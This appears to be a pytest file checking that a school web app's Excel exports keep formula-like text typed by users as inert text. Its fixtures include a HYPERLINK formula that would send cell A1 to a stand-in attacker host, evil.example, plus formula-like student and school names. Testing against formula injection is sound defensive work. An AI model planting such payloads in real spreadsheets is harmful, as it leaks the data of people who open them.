"""Downloads never carry a live formula (issue 11, item 4): text people typed that starts with = + - @,
a tab or a carriage return is kept as text, visibly and exactly, in every workbook the web app serves."""

from io import BytesIO

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.workbook.workbook import Workbook
from sqlalchemy import Engine
from sqlmodel import Session, select

from models import School, Student
from tests.web.app_fixtures import ClientFor
from tests.web.world import TODAY, World
from web.exports import Sheet, workbook_bytes

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
TOPICS = (LINK, "+1+1 情绪课", "-2+3 团体活动", "@SUM(A1:A9)")  # the form trims a leading tab or CR
STUDENT = "=1+2&\"同学\""
SCHOOL = "@第一中学"


def _cells(book: Workbook) -> list[Cell]:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]  # type: ignore[misc]


def _assert_inert(book: Workbook) -> dict[str, Cell]:
    """No formula anywhere; a text cell that a spreadsheet would read as one is marked as typed text."""
    cells = _cells(book)
    assert cells
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    return {c.value: c for c in cells if isinstance(c.value, str)}


def _record_topics(client_for: ClientFor, world: World) -> None:
    homeroom = client_for("homeroom")
    for topic in TOPICS:
        sent = homeroom.post(f"/api/schools/{world.school_id}/courses", json={
            "class_id": world.accounts["homeroom"].class_id, "kind": "lesson", "held_on": TODAY.isoformat(),
            "topic": topic, "periods": 1})
        assert sent.status_code in (200, 201), sent.text


def test_course_workbooks_keep_typed_formulas_as_text(client_for: ClientFor, world: World) -> None:
    _record_topics(client_for, world)
    for role in ("homeroom", "leader", "officer"):  # the officer's is the district's download
        answer = client_for(role).get(f"/schools/{world.school_id}/courses.xlsx")
        assert answer.status_code == 200
        texts = _assert_inert(load_workbook(BytesIO(answer.content)))
        for topic in TOPICS:
            assert topic in texts, (role, topic)  # kept exactly, not prefixed, not dropped
        periods = [c for c in _cells(load_workbook(BytesIO(answer.content)))
                   if c.column == 5 and c.row > 1 and c.parent.title == "记录明细"]
        assert periods and all(c.data_type == "n" for c in periods)  # numbers stay numbers


def test_ledger_workbook_keeps_a_formula_like_student_name_as_text(
        client_for: ClientFor, world: World, world_engine: Engine) -> None:
    with Session(world_engine) as session:
        student = session.exec(select(Student).where(Student.class_id == world.accounts["homeroom"].class_id)
                               .order_by(Student.id)).first()  # type: ignore[arg-type]
        assert student is not None
        student.name = STUDENT
        session.commit()
    for role in ("homeroom", "psych"):
        answer = client_for(role).get(f"/schools/{world.school_id}/ledgers.xlsx?view=all")
        assert answer.status_code == 200
        assert STUDENT in _assert_inert(load_workbook(BytesIO(answer.content))), role


def test_district_workbook_keeps_a_formula_like_school_name_as_text(
        client_for: ClientFor, world: World, world_engine: Engine) -> None:
    with Session(world_engine) as session:
        school = session.get(School, world.school_id)
        assert school is not None
        school.name = SCHOOL
        session.commit()
    answer = client_for("officer").get("/district/on-time.xlsx?year=2026")
    assert answer.status_code == 200
    book = load_workbook(BytesIO(answer.content))
    assert SCHOOL in _assert_inert(book)
    rates = [c for c in _cells(book) if c.parent.title == "2026年按时完成率" and c.row > 1 and c.column > 1
             and c.value not in (None, "")]
    assert rates and all(c.data_type == "n" for c in rates)


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    book = load_workbook(BytesIO(workbook_bytes([Sheet("表", ["值"], [[-3], [-2.5], ["-3"], ["心理课"], [0],
                                                                     ["\t=1+1"], ["\r=2+2"], ["＝1+1"]])])))
    values = [(c.value, c.data_type, bool(c.quotePrefix)) for c in book.worksheets[0]["A"][1:]]
    assert values == [(-3, "n", False), (-2.5, "n", False), ("-3", "s", True), ("心理课", "s", False),
                      (0, "n", False), ("\t=1+1", "s", True), ("\n=2+2", "s", True),  # XML reads a CR as LF
                      ("＝1+1", "s", True)]
